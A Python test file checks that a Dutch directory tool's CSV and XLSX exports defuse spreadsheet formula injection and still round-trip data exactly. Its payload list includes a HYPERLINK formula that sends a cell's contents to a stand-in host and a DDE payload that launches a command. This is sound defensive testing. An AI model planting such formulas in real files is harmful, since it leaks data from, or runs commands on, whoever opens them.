"""Exports made for spreadsheet programs cannot attack the person who opens them: no cell is a formula (OWASP's advice
against CSV injection), and reading the sheet back gives the exact data."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from wsp_desk.desk import DeskContext
from wsp_desk.domain.permissions import Actor
from wsp_desk.interop.files import Format
from wsp_desk.interop.spreadsheet_cells import for_spreadsheet, from_spreadsheet
from wsp_desk.services.directory_exchange import export_file, import_file

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1, "klik")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_in_front(payload: str) -> None:
    assert for_spreadsheet(payload) == "'" + payload
    assert from_spreadsheet(for_spreadsheet(payload)) == payload


@pytest.mark.parametrize("text", ["Kosten: € 10,-", "a;=1", 'zegt "=1"', "a,@b"])
def test_a_formula_after_a_separator_or_quote_gets_a_quote_too(text: str) -> None:
    assert for_spreadsheet(text) == "'" + text


@pytest.mark.parametrize("text", ["'s-Gravenhage", "Werk en Inkomen", "070 123 4567", "ma-vr 09:00-17:00", ""])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert for_spreadsheet(text) == text == from_spreadsheet(text)


@given(st.text(st.sampled_from(list("'=+-@\t\r,;\"a "))))
def test_reading_back_gives_the_text(text: str) -> None:
    assert from_spreadsheet(for_spreadsheet(text)) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_dutch_spreadsheet_exports_no_formula_and_imports_the_same(
    desk: DeskContext, coordinator: Actor, tmp_path: Path, payload: str
) -> None:
    # What a field keeps of the payload: texts are trimmed, so a tab or CR leads only inside one.
    text = payload if payload.strip() == payload else f"Zie {payload}"
    service = {"id": "s1", "name": "Dienst", "status": "active", "description": text, "alert": payload.strip()}
    source = tmp_path / "d.json"
    source.write_text(json.dumps([{"id": "o1", "name": payload.strip(), "services": [service]}]), encoding="utf-8")
    import_file(desk.directory, desk.directory_import, coordinator, source)
    for fmt, name in ((Format.CSV, "sheet.csv"), (Format.XLSX, "sheet.xlsx")):
        export_file(desk.directory, coordinator, tmp_path / name, fmt)
        if fmt == Format.CSV:
            text_of = (tmp_path / name).read_bytes().decode("utf-8-sig")
            rows = list(csv.DictReader(io.StringIO(text_of, newline=""), delimiter=";"))
            assert text_of.startswith('"ID dienst";"ID organisatie";'), "every cell in quotes"
        else:
            sheet = load_workbook(tmp_path / name).worksheets[0]
            header = [cell.value for cell in sheet[1]]
            rows = [dict(zip(header, (cell.value or "" for cell in row), strict=True)) for row in sheet.iter_rows(2)]
        assert [row["Organisatie"] for row in rows] == ["'" + payload.strip()]
        assert all(not str(value).startswith(tuple("=+-@\t\r")) for row in rows for value in row.values())
        again = import_file(desk.directory, desk.directory_import, coordinator, tmp_path / name)
        assert (again.summary.added, again.summary.updated) == (0, 0), "the same data as exported"


def test_the_hsds_tables_keep_the_exact_text(desk: DeskContext, coordinator: Actor, tmp_path: Path) -> None:
    source = tmp_path / "d.json"
    source.write_text(json.dumps([{"id": "o1", "name": "=1+1"}]), encoding="utf-8")
    import_file(desk.directory, desk.directory_import, coordinator, source)
    export_file(desk.directory, coordinator, tmp_path / "tables", Format.HSDS_CSV)
    assert "o1,=1+1," in (tmp_path / "tables" / "organizations.csv").read_text(encoding="utf-8")


def test_a_control_character_stored_before_does_not_break_the_xlsx_export() -> None:
    from wsp_desk.domain.directory import OrganizationData, OrganizationRecord, ServiceData, ServiceRecord
    from wsp_desk.interop.spreadsheet import write_xlsx

    organization = OrganizationRecord("o1", OrganizationData("Bel\x07"))
    sheet = load_workbook(io.BytesIO(write_xlsx([organization], [ServiceRecord("s1", "o1", ServiceData("D"))])))
    assert sheet.worksheets[0]["C2"].value == "Bel\ufffd"
